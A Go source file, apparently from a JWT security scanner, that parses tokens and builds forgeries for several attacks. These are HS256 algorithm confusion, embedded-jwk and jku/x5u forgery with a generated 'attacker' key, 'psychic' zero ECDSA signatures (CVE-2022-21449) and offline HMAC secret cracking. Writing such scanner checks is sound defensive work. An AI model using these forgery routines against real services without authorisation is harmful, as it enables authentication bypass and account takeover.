package checks

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"hash"
	"strings"
)

var b64 = base64.RawURLEncoding

// jwt is a parsed compact JWS. Raw segments are kept so forgeries that keep
// the payload reuse its exact bytes.
type jwt struct {
	Header     map[string]any
	Claims     map[string]any
	RawHeader  string
	RawPayload string
	RawSig     string
}

var errNotJWT = errors.New("not a compact JWT")

// parseJWT splits and decodes a compact JWS without verifying anything.
func parseJWT(tok string) (*jwt, error) {
	parts := strings.Split(tok, ".")
	if len(parts) != 3 || len(tok) > 16<<10 {
		return nil, errNotJWT
	}
	hb, err := b64.DecodeString(parts[0])
	if err != nil {
		return nil, fmt.Errorf("parse jwt header: %w", errNotJWT)
	}
	pb, err := b64.DecodeString(parts[1])
	if err != nil {
		return nil, fmt.Errorf("parse jwt payload: %w", errNotJWT)
	}
	j := &jwt{RawHeader: parts[0], RawPayload: parts[1], RawSig: parts[2]}
	if err := decodeJSON(hb, &j.Header); err != nil || j.Header == nil {
		return nil, fmt.Errorf("parse jwt header: %w", errNotJWT)
	}
	if err := decodeJSON(pb, &j.Claims); err != nil || j.Claims == nil {
		return nil, fmt.Errorf("parse jwt payload: %w", errNotJWT)
	}
	return j, nil
}

func decodeJSON(b []byte, v any) error {
	d := json.NewDecoder(bytes.NewReader(b))
	d.UseNumber() // keep exp/iat exact when re-encoding
	return d.Decode(v)
}

func (j *jwt) alg() string { s, _ := j.Header["alg"].(string); return s }

// signingInput is "header.payload" of the original token.
func (j *jwt) signingInput() string { return j.RawHeader + "." + j.RawPayload }

// exp returns the exp claim in Unix seconds.
func (j *jwt) exp() (int64, bool) {
	switch v := j.Claims["exp"].(type) {
	case json.Number:
		n, err := v.Int64()
		if err != nil {
			f, ferr := v.Float64()
			return int64(f), ferr == nil
		}
		return n, true
	}
	return 0, false
}

func seg(v any) string {
	b, _ := json.Marshal(v)
	return b64.EncodeToString(b)
}

// withHeader returns a copy of the original header with changes applied (nil
// values delete keys).
func (j *jwt) withHeader(changes map[string]any) map[string]any {
	h := make(map[string]any, len(j.Header)+len(changes))
	for k, v := range j.Header {
		h[k] = v
	}
	for k, v := range changes {
		if v == nil {
			delete(h, k)
		} else {
			h[k] = v
		}
	}
	return h
}

// withClaims returns the original claims with changes applied, encoded.
func (j *jwt) withClaims(changes map[string]any) string {
	c := make(map[string]any, len(j.Claims)+len(changes))
	for k, v := range j.Claims {
		c[k] = v
	}
	for k, v := range changes {
		c[k] = v
	}
	return seg(c)
}

// hmacSign signs input with key using the HS* algorithm alg.
func hmacSign(alg string, key []byte, input string) string {
	var h func() hash.Hash
	switch alg {
	case "HS384":
		h = sha512.New384
	case "HS512":
		h = sha512.New
	default:
		h = sha256.New
	}
	m := hmac.New(h, key)
	m.Write([]byte(input))
	return b64.EncodeToString(m.Sum(nil))
}

// forgeHS signs a token with HS256 under key.
func forgeHS(header map[string]any, payload string, key []byte) string {
	header["alg"] = "HS256"
	in := seg(header) + "." + payload
	return in + "." + hmacSign("HS256", key, in)
}

// attackerKey is a fresh P-256 key generated for one scan: the "attacker's" key
// for embedded-jwk and jku/x5u forgeries.
type attackerKey struct {
	priv *ecdsa.PrivateKey
	kid  string
}

func newAttackerKey() (*attackerKey, error) {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("generate attacker key: %w", err)
	}
	return &attackerKey{priv: k, kid: "gatehouse-scan-attacker"}, nil
}

// jwk is the public key as a JWK.
func (a *attackerKey) jwk() map[string]any {
	pub, _ := a.priv.PublicKey.Bytes() // uncompressed point 0x04||X||Y
	return map[string]any{
		"kty": "EC", "crv": "P-256", "kid": a.kid, "use": "sig", "alg": "ES256",
		"x": b64.EncodeToString(pub[1:33]), "y": b64.EncodeToString(pub[33:65]),
	}
}

// sign makes an ES256 token with header (alg forced to ES256).
func (a *attackerKey) sign(header map[string]any, payload string) (string, error) {
	header["alg"] = "ES256"
	in := seg(header) + "." + payload
	sum := sha256.Sum256([]byte(in))
	r, s, err := ecdsa.Sign(rand.Reader, a.priv, sum[:])
	if err != nil {
		return "", fmt.Errorf("sign forged token: %w", err)
	}
	sig := make([]byte, 64)
	r.FillBytes(sig[:32])
	s.FillBytes(sig[32:])
	return in + "." + b64.EncodeToString(sig), nil
}

// psychic builds an ECDSA token whose signature is r = s = 0 (CVE-2022-21449):
// a verifier that skips the range check accepts it for any key.
func psychic(header map[string]any, payload, alg string) string {
	size := map[string]int{"ES256": 64, "ES384": 96, "ES512": 132}[alg]
	if size == 0 {
		alg, size = "ES256", 64
	}
	header["alg"] = alg
	in := seg(header) + "." + payload
	return in + "." + b64.EncodeToString(make([]byte, size))
}

// crackHMAC tries each candidate secret offline; it returns the secret that
// reproduces the token's signature.
func crackHMAC(j *jwt, candidates []string) (string, bool) {
	alg := j.alg()
	if alg != "HS256" && alg != "HS384" && alg != "HS512" {
		return "", false
	}
	want, err := b64.DecodeString(j.RawSig)
	if err != nil {
		return "", false
	}
	for _, c := range candidates {
		got, _ := b64.DecodeString(hmacSign(alg, []byte(c), j.signingInput()))
		if hmac.Equal(got, want) {
			return c, true
		}
	}
	return "", false
}

// publicKeyEncodings returns the ways a verifier might read a public key as an
// HMAC secret: PKIX PEM with and without the final newline, PKIX DER, and for
// RSA the PKCS#1 PEM.
func publicKeyEncodings(pkix, pkcs1PEM []byte) map[string][]byte {
	pemBlock := "-----BEGIN PUBLIC KEY-----\n"
	enc := base64.StdEncoding.EncodeToString(pkix)
	for len(enc) > 64 {
		pemBlock += enc[:64] + "\n"
		enc = enc[64:]
	}
	pemBlock += enc + "\n-----END PUBLIC KEY-----\n"
	out := map[string][]byte{
		"pem":      []byte(pemBlock),
		"pem-nonl": []byte(strings.TrimSuffix(pemBlock, "\n")),
		"der":      pkix,
	}
	if pkcs1PEM != nil {
		out["pkcs1-pem"] = pkcs1PEM
	}
	return out
}
